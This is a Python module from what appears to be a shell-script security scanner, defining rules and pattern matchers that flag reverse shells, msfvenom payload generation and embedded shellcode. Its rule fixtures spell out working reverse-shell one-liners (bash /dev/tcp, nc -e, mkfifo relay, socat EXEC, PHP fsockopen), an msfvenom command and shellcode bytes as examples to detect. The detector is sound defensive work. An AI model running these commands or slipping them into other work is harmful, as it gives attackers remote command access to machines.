"""Reverse shells, payloads and shellcode."""

from __future__ import annotations

import re
from collections.abc import Iterator

from engine.analysis.shell.declare import CRITICAL, HIGH, found, rule
from engine.analysis.shell.flow import OTHERS, SHELLS, before
from engine.analysis.shell.model import Command, Script
from engine.analysis.shell.values import UNKNOWN
from engine.models import Violation

REVERSE = rule(
    "sh-reverse-shell",
    "Connects a shell to another machine",
    "reverse_shell",
    CRITICAL,
    attack="Gives an attacker a command line on this machine.",
    why="CRITICAL: there is no legitimate reason to connect a shell to the network.",
    fix="Remove it.",
    match=(
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "socat TCP:10.0.0.1:1 EXEC:/bin/sh",
        "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l >&5; done",
        "exec 5<>/dev/tcp/h/1; sh <&5 >&5 2>&5",
        'php -r \'$s=fsockopen("h",1);exec("sh <&3 >&3");\'',
    ),
    not_match=(
        "nc -z localhost 80",
        "echo hi > /dev/tcp/localhost/80",
        "socat - TCP:localhost:80",
        "bash -i",
    ),
    cwe=506,
)
GENERATOR = rule(
    "sh-payload-generator",
    "Builds a remote-access payload",
    "reverse_shell",
    HIGH,
    attack="Builds a program that opens a shell on the machine that runs it.",
    why="HIGH: the payload is built here, but not run.",
    fix="Remove it.",
    match=("msfvenom -p linux/x64/shell_reverse_tcp LHOST=1.2.3.4 -f elf",),
    not_match=("man msfvenom",),
    cwe=506,
)
SHELLCODE = rule(
    "sh-shellcode",
    "Contains machine code as escaped bytes",
    "reverse_shell",
    HIGH,
    attack=("Carries a program in a form that no reviewer can read, to be written to a file or injected."),
    why="HIGH: what the bytes do is unknown; CRITICAL requires that they run.",
    fix="Submit source code.",
    match=(
        ("printf '\\x31\\xdb\\xf7\\xe3\\x53\\x43\\x53\\x6a\\x02\\x89\\xe1\\xb0\\x66\\xcd\\x80\\x93' > a"),
    ),
    not_match=(
        "printf '\\xe2\\x9c\\x93 ok'",
        "echo -e '\\x1b[31m\\x1b[0m'",
    ),
    cwe=506,
)

_NETCATS = (
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "rcat",
    "rustcat",
    "pwncat",
    "busybox-nc",
    "cryptcat",
    "sbd",
)
_TALKERS = frozenset({*_NETCATS, "telnet", "socat"})
_RELAYS = _TALKERS | {"openssl", "curl"}
_SHELL_WORD = re.compile(r"(?:^|[\s/:'\",=!|])(?:(?:/usr)?/bin/)?(?:ba|z|da|k|a|c|tc|fi)?sh\b")
_NET_DEVICE = re.compile(r"/dev/(?:tcp|udp)/|/inet/(?:tcp|udp)/|zsh/net/tcp")
_SOCKET = re.compile(
    r"fsockopen|socket_create|socket_connect|stream_socket_client|IO::Socket|\bTCPSocket|\bTCPServer"
    r"|UDPSocket"
    r"|\buse\s+Socket|socket\.tcp|require\s*\(?['\"]socket|net\.Dial|/inet/tcp|TcpClient|new\s+Socket"
    r"|net\.connect|net\.Socket"
    r"|Socket\(|getaddrinfo|sockaddr_in|inet_aton|net\.dial"
)
_SPAWN = re.compile(
    r"\bexec\b|\bsystem\b|shell_exec|passthru|\bpopen|proc_open|`[^`]*sh|os\.execute|IO\.popen|\bspawn"
    r"|exec\.Command"
    r"|\bsystem\$_|\$_\b|getline|io\.popen|os\.system|ProcessBuilder|Runtime"
)
_BYTES = re.compile(r"(?:\\x[0-9a-fA-F]{2}){4,}")


def check(script: Script) -> Iterator[Violation]:
    """Yield reverse and bind shells, and what makes them."""
    sockets = _sockets(script)
    for command in script.commands:
        if command.own:
            continue
        if (
            _over_device(command)
            or _over_socket(command, sockets)
            or _netcat(command)
            or _relay(command)
            or _one_liner(command)
            or _fed_from_network(command)
            or _writes_program(command)
        ):
            yield found(REVERSE, command)
        elif command.name in {"msfvenom", "msfpc", "unicorn", "veil"}:
            yield found(GENERATOR, command)
    yield from _shellcode(script)


def _over_device(command: Command) -> bool:
    """A shell, or a command that was read from the network, joined to /dev/tcp."""
    if command.name in SHELLS or command.name == UNKNOWN:
        device = any(_NET_DEVICE.search(redirect.target.text) for redirect in command.redirects)
        merged_analyses = any(
            r.operator.rstrip("0123456789").endswith(("<&", ">&")) for r in command.redirects
        )
        return (
            device
            or (merged_analyses and "-i" in command.words and len(command.redirects) > 1)
            or _zsh(command)
        )
    return False


def _sockets(script: Script) -> set[str]:
    """Return the file descriptors on which the script opens connections: `exec 5<>/dev/tcp/…`."""
    opened = (one for one in script.redirects if _NET_DEVICE.search(one.target.text))
    return {one.operator.rstrip("<>&") for one in opened} - {""}


def _over_socket(command: Command, sockets: set[str]) -> bool:
    """A shell that reads its commands from such a descriptor."""
    if not sockets or command.name not in SHELLS:
        return False
    return any(r.operator.endswith("<&") and r.target.text in sockets for r in command.redirects)


def _zsh(command: Command) -> bool:
    return "ztcp" in command.text or "zsh/net/tcp" in command.text


def _netcat(command: Command) -> bool:
    if command.name not in _NETCATS:
        return False
    given = command.option("-e", "-c", "--exec", "--sh-exec", "-s", "--shell", "--lua-exec")
    return given is not None and bool(
        _SHELL_WORD.search(given.text) or UNKNOWN in given.text or "/" in given.text
    )


def _relay(command: Command) -> bool:
    """`… | sh | nc …`, `socat … EXEC:sh` and their like."""
    words = command.text
    if command.name == "socat":
        return bool(re.search(r"(?i)\b(?:EXEC|SYSTEM|SHELL):", words)) and bool(
            re.search(r"(?i)TCP|UDP|OPENSSL|SSL|SCTP", words)
        )
    if command.name in _RELAYS:
        client = command.name != "openssl" or "s_client" in command.words
        client = client and (command.name != "curl" or "telnet://" in words)
        return client and any(other.name in SHELLS for other in before(command))
    return command.name in SHELLS and any(_talks(other) for other in before(command))


def _talks(command: Command) -> bool:
    if command.name in _TALKERS:
        return True
    words = command.text
    return "telnet://" in words or (command.name == "openssl" and "s_client" in words)


def _one_liner(command: Command) -> bool:
    """A script given on the command line of another interpreter that has a socket and starts programs."""
    if command.name not in OTHERS and command.name not in {"sqlite3", "julia", "java", "jshell", "scala"}:
        return False
    text = " ".join(command.words) + (command.feed.text if command.feed else "")
    return bool(_SOCKET.search(text) and (_SPAWN.search(text) or _SHELL_WORD.search(text)))


def _fed_from_network(command: Command) -> bool:
    """A command name that was read, while the input comes from a socket that the script opened."""
    if command.name != UNKNOWN or "input" not in command.program.taints:
        return False
    numbers = any(r.operator.endswith("&") and r.target.text not in {"1", "2"} for r in command.redirects)
    return numbers or any(_NET_DEVICE.search(r.target.text) for r in command.redirects)


def _writes_program(command: Command) -> bool:
    """Source code of a reverse shell in another language, printed into a file."""
    if command.name not in {"echo", "printf", "cat", "tee"}:
        return False
    text = command.text + (command.feed.text if command.feed else "")
    if re.search(r"\bnc(?:at)?\s+(?:\S+\s+)*-[ec]\s+\S*sh\b", text) and any(
        r.writes for r in command.redirects
    ):
        return True
    writes = any(redirect.writes for redirect in command.redirects) or command.name == "tee"
    return writes and bool(_SOCKET.search(text) and _SPAWN.search(text) and _SHELL_WORD.search(text))


def _shellcode(script: Script) -> Iterator[Violation]:
    text = script.tree.text
    if text.count("\\x") < 12:
        return
    for match in _BYTES.finditer(text):
        run = text[match.start() : match.start() + 4096]
        codes = [int(code, 16) for code in re.findall(r"\\x([0-9a-fA-F]{2})", run)]
        binary = sum(code < 9 or code > 126 for code in codes)
        if len(codes) >= 12 and binary * 4 >= len(codes) and not _is_utf8(codes[:64]):
            span = script.tree.lines.span(match.start(), match.end())
            yield SHELLCODE.violation(span, f"{len(codes)} escaped bytes that are not text")
            return


def _is_utf8(codes: list[int]) -> bool:
    try:
        text = bytes(codes).decode()
    except UnicodeDecodeError as error:
        return error.start > len(codes) - 4
    return not any(ord(char) < 9 for char in text)
